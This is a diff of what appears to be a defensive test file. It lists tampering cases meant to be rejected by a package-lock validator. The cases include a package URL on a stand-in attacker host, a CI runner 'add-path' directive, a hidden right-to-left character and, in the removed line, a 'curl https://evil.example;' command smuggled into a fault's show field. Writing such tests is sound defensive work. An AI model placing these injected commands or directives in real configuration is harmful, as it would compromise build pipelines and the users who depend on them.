@@ -152,7 +152,7 @@ EVIL: dict[str, Callable[[Path], object]] = {
     "a package's address": append(PACKAGES, f"evil https://evil.example/x.deb {HASH}\n"),
     "a command for the runner": append(PACKAGES, "::add-path::/tmp\n"),
     "other versions of a fault": change(FAULTS, "<2.50.41", "<2.50.41,>=1"),
-    "another command of a fault": change(FAULTS, 'show = "nox', 'show = "curl https://evil.example; nox'),
+    "another command of a fault": change(FAULTS, 'show = ["', 'show = ["https://evil.example", "'),
     "characters that hide": change(PACKAGES, "# Written", "# \u202eWritten"),
     "a huge file": lambda folder: (folder / LOCK).write_text("#" * (pins.LARGEST + 1)),
     "bytes": lambda folder: (folder / LOCK).write_bytes(b"\xff\n"),
